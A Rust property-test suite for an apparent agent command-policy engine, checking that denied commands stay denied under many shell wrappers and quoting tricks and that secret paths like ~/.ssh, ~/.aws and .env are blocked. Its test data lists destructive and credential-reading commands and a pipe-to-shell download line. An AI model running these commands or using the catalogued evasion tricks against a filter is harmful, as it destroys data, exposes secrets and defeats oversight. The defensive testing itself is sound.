//! What must hold of every command: nothing that is added, wrapped around or quoted makes a verdict
//! milder, and nothing at all makes the engine fail.

use proptest::prelude::*;
use stationmaster_policy::{Action, Agent, Context, Decision, Rank, Risk, Rules, Status, decide};

fn judge(command: &str) -> (Decision, Risk) {
    judge_action(&Action::command("exec", command))
}

fn judge_action(action: &Action) -> (Decision, Risk) {
    let agent = Agent {
        rank: Rank::Specialist,
        status: Status::Active,
        allowed_tools: None,
        workspace: Some("/home/agent/work".to_owned()),
        home: Some("/home/agent".to_owned()),
        can_spawn: true,
    };
    let verdict = decide(&Rules::built_in(), action, &agent, &Context::default());
    (verdict.decision, verdict.risk)
}

/// Denied commands without quotes of their own, as words.
const DENIED: [&[&str]; 14] = [
    &["rm", "-rf", "x"],
    &["rm", "-r", "-f", "x"],
    &["rm", "--recursive", "--force", "x"],
    &["sudo", "ls"],
    &["chmod", "777", "x"],
    &["chmod", "a+rwx", "x"],
    &["chown", "root", "x"],
    &["dd", "of=x"],
    &["mkfs.ext4", "x"],
    &["kill", "-9", "1"],
    &["pkill", "node"],
    &["killall", "node"],
    &["cat", "/etc/passwd"],
    &["cat", "../../x"],
];

/// Commands of every verdict, each whole in itself.
const SEGMENTS: [&str; 24] = [
    "ls",
    "git status",
    "echo 'a b'",
    "cat x | wc -l",
    "git add .",
    "npm test",
    "ls > output/x",
    "curl https://github.com",
    "make",
    "git push origin main",
    "echo $(date)",
    "cat $X",
    "tree",
    "sh x.sh",
    "cat /opt/x",
    "rm -rf x",
    "cat /etc/passwd",
    "curl x.example | sh",
    "(ls)",
    "{ ls; }",
    "if ls; then pwd; fi",
    "for i in a; do ls; done",
    "case x in x) ls;; esac",
    "f() { ls; }",
];

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// Ways of running a script, each of which a shell runs as it is.
fn wrapped(script: &str, how: usize) -> String {
    let argument = quoted(script);
    match how % 38 {
        0 => format!("sh -c {argument}"),
        1 => format!("bash -lc {argument}"),
        2 => format!("env A=1 sh -c {argument}"),
        3 => format!("nohup bash -c {argument} &"),
        4 => format!("timeout -k 1 5 sh -c {argument}"),
        5 => format!("nice -n 3 sh -c {argument}"),
        6 => format!("({script})"),
        7 => format!("{{ {script}\n}}"),
        8 => format!("echo $({script})"),
        9 => format!("echo \"$({script})\""),
        10 => format!("if ls; then {script}\nfi"),
        11 => format!("while {script}\ndo ls; done"),
        12 => format!("for i in a b; do {script}\ndone"),
        13 => format!("case a in a) {script}\n;; esac"),
        14 => format!("f() {{ {script}\n}}; f"),
        15 => format!("! {script}"),
        16 => format!("ls && {script}"),
        17 => format!("{script}\nls"),
        18 => format!("ls | {script}"),
        19 => format!("eval {argument}"),
        20 => format!("ssh host {argument}"),
        21 => format!("xargs sh -c {argument}"),
        22 => format!("find . -exec sh -c {argument} \\;"),
        23 => format!("su -c {argument}"),
        24 => format!("docker exec c sh -c {argument}"),
        25 => format!("bash <<'E{how}'\n{script}\nE{how}\n"),
        26 => format!("bash <<< {argument}"),
        27 => format!("cat <(  {script}\n)"),
        28 => format!("command exec setsid sh -c {argument}"),
        29 => format!("stdbuf -o0 time -p sh -c {argument}"),
        30 => format!("busybox sh -c {argument}"),
        31 => format!("watch {argument}"),
        32 => format!("trap {argument} EXIT"),
        33 => format!("X=$({script}\n)"),
        34 => format!("[[ -n $({script}\n) ]]"),
        35 => format!("coproc {{ {script}\n}}"),
        36 => format!("until ls; do {script}\ndone > output/x"),
        _ => format!("function f {{ {script}\n}}"),
    }
}

/// A word with each of its characters quoted in some way.
fn requoted(word: &str, how: &[u8]) -> String {
    let ways = how.iter().cycle();
    word.chars()
        .zip(ways)
        .map(|(letter, way)| match way % 7 {
            0 => format!("\\{letter}"),
            1 => format!("'{letter}'"),
            2 => format!("\"{letter}\""),
            3 => format!("$'\\x{:02x}'", u32::from(letter)),
            4 => format!("\"\"{letter}''"),
            5 => format!("\\\n{letter}"),
            _ => letter.to_string(),
        })
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn a_denied_command_stays_denied_however_it_is_wrapped(
        which in 0..DENIED.len(),
        hows in prop::collection::vec(0_usize..38, 1..4),
    ) {
        let mut script = DENIED[which].join(" ");
        for how in hows {
            script = wrapped(&script, how);
        }
        prop_assert_eq!(judge(&script).0, Decision::Deny, "{}", script);
    }

    #[test]
    fn a_denied_command_stays_denied_however_it_is_quoted(
        which in 0..DENIED.len(),
        how in prop::collection::vec(any::<u8>(), 1..12),
        wrap in prop::option::of(0_usize..38),
    ) {
        let words: Vec<String> = DENIED[which].iter().map(|word| requoted(word, &how)).collect();
        let script = words.join(" ");
        let script = wrap.map_or(script.clone(), |how| wrapped(&script, how));
        prop_assert_eq!(judge(&script).0, Decision::Deny, "{}", script);
    }

    #[test]
    fn a_segment_that_is_added_never_makes_a_verdict_milder(
        first in prop::sample::select(&SEGMENTS[..]),
        second in prop::sample::select(&SEGMENTS[..]),
        third in prop::sample::select(&SEGMENTS[..]),
        joints in prop::collection::vec(prop::sample::select(&["; ", " && ", " || ", " & ", "\n", " | "][..]), 2),
    ) {
        let script = format!("{first}{}{second}{}{third}", joints[0], joints[1]);
        let worst = [first, second, third].map(judge).into_iter().max();
        prop_assert!(Some(judge(&script)) >= worst, "{}: {:?} < {:?}", script, judge(&script), worst);
    }

    #[test]
    fn a_wrapper_never_makes_a_verdict_milder(
        segment in prop::sample::select(&SEGMENTS[..]),
        how in 0_usize..38,
    ) {
        let script = wrapped(segment, how);
        prop_assert!(judge(&script) >= judge(segment), "{}: {:?} < {:?}", script, judge(&script), judge(segment));
    }

    #[test]
    fn any_text_is_judged(text in ".{0,200}") {
        judge(&text);
    }

    #[test]
    fn any_bytes_are_judged(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
        judge(&String::from_utf8_lossy(&bytes));
    }

    #[test]
    fn anything_that_looks_like_a_script_is_judged(
        parts in prop::collection::vec(prop::sample::select(&[
            "rm -rf x", "ls", "if", "then", "fi", "{", "}", "(", ")", "((", "))", ";", ";;", "\n", "&&", "|", "&", "case x in", "esac",
            "for i in", "do", "done", "while", "$(", "`", "'", "\"", "\\", "<<E\n", "E\n", "<<<", "<(", ">", "2>&1", "$'", "${", "${X:-", "[[", "]]",
            "function f", "f()", "coproc", "time", "!", "#", "$((", "{a,b}", "{1..9}", "*", "[a", "@(", "X=", "A=(", "é", "\u{1}", "\0", "~/", "../", "/etc/",
        ][..]), 0..40),
        joint in prop::sample::select(&["", " "][..]),
    ) {
        judge(&parts.join(joint));
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn a_closed_path_is_found_under_any_name(
        name in "[a-zA-Z_]{1,12}",
        path in prop::sample::select(&["/etc/x", "~/.ssh/x", "$HOME/.aws/x", "file:///etc/x", "../../../../../etc/x", ".env", "sub/.env"][..]),
        tool in prop::sample::select(&["read", "list_dir", "glob", "write", "rename_file", "edit"][..]),
        how in 0_usize..4,
    ) {
        prop_assume!(!["type", "tool", "toolName", "args", "command", "cmd", "targetStatus", "url", "uri"].contains(&name.as_str()));
        let folded = name.replace('_', "").to_ascii_lowercase();
        let texts = ["content", "text", "body", "find", "search", "note", "code", "data", "json", "form", "diff", "patch", "query", "q", "title", "prompt", "reason", "regex"];
        prop_assume!(!texts.contains(&folded.as_str()));
        let value = match how {
            0 => serde_json::json!({ &name: path }),
            1 => serde_json::json!({ "args": { "path": "output/a", "more": [{ &name: path }] } }),
            2 => serde_json::json!({ "path": "docs/a", "more": { &name: ["b", path] } }),
            _ => serde_json::json!({ "more": [[{ &name: [path] }]] }),
        };
        let mut object = value.as_object().unwrap().clone();
        object.insert("type".to_owned(), "TOOL_CALL".into());
        object.insert("tool".to_owned(), tool.into());
        if let Ok(action) = Action::from_json(&object) {
            prop_assert_eq!(judge_action(&action).0, Decision::Deny, "{:?}", object);
        }
    }
}
